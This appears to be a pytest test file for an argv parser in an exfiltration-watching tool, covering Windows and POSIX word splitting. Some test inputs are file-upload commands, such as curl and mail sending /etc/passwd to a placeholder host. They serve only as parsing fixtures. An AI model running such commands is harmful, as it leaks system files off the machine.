"""The argument vector of a program that no shell started."""

import shlex
import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from exfilwatch.commands.shells.argv import argv


@pytest.mark.parametrize(
    ("line", "words"),
    [
        # Microsoft's own examples of its rules.
        (r'x "abc" d e', ["x", "abc", "d", "e"]),
        (r'x a\\b d"e f"g h', ["x", r"a\\b", "de fg", "h"]),
        (r"x a\\\"b c d", ["x", r"a\"b", "c", "d"]),
        (r'x a\\\\"b c" d e', ["x", r"a\\b c", "d", "e"]),
        (r'x a"b"" c d', ["x", 'ab" c d']),
        # Other rules of the same page.
        (
            r'"C:\Program Files\curl.exe"  -T "C:\a b\c.txt" http://h/',
            [r"C:\Program Files\curl.exe", "-T", r"C:\a b\c.txt", "http://h/"],
        ),
        (r'"C:\a\x.exe" "d\\"', [r"C:\a\x.exe", "d\\"]),
        (r"C:\a\\x.exe \\host\share", [r"C:\a\\x.exe", r"\\host\share"]),
        ('x "" y', ["x", "", "y"]),
        ('x "never closed y', ["x", "never closed y"]),
        ("x\ty", ["x", "y"]),
        ("", []),
    ],
)
def test_windows_words_are_those_of_the_c_runtime(line: str, words: list[str]) -> None:
    assert argv(line, windows=True) == words


@pytest.mark.parametrize(
    ("line", "words"),
    [
        ("curl -F 'file=@/x y' \"https://h/\"", ["curl", "-F", "file=@/x y", "https://h/"]),
        ("curl -d it's -T /etc/passwd http://h", ["curl", "-d", "it's", "-T", "/etc/passwd", "http://h"]),
        ("mail -s don't and can't -a /etc/passwd", ["mail", "-s", "don't", "and", "can't", "-a", "/etc/passwd"]),
        ('echo 5" wide', ["echo", '5"', "wide"]),
        (r"tar cf a\ b.tar 'it'\''s'", ["tar", "cf", "a b.tar", "it's"]),
        ('python3 -c "print(\\"a\\")"', ["python3", "-c", 'print("a")']),
        ("x '' y", ["x", "", "y"]),
        ("x $HOME *", ["x", "$HOME", "*"]),
    ],
)
def test_other_words_are_those_of_a_shell_without_expansions(line: str, words: list[str]) -> None:
    assert argv(line, windows=False) == words


@given(st.lists(st.text('ab \\"\t', max_size=8)))
def test_windows_words_come_back_from_the_line_that_python_makes_of_them(words: list[str]) -> None:
    assert argv("x.exe " + subprocess.list2cmdline(words), windows=True) == ["x.exe", *words]


@given(st.lists(st.text("ab \\\"'$`\t\n", max_size=8)))
def test_other_words_come_back_from_the_line_that_python_makes_of_them(words: list[str]) -> None:
    assert argv("x " + shlex.join(words), windows=False) == ["x", *words]
